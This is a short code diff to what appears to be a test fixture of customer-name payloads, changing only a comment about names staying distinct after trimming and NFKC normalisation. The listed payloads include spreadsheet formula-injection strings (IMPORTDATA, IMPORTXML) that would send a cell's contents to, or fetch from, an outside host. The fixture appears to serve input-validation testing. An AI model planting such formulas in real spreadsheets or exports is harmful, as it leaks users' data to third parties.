@@ -2,7 +2,7 @@
 
 const long = "Ω=long ".repeat(6000).trim();
 
-/** Names to try; no two of them are one customer: they differ after trimming and NFKC. */
+/** Names to try. They all differ after trimming and NFKC, so that each is a customer of its own. */
 export const payloads: readonly string[] = [
   '=IMPORTDATA("https://example.com/?q="&A1)',
   '=IMPORTXML("https://example.com","//a")',
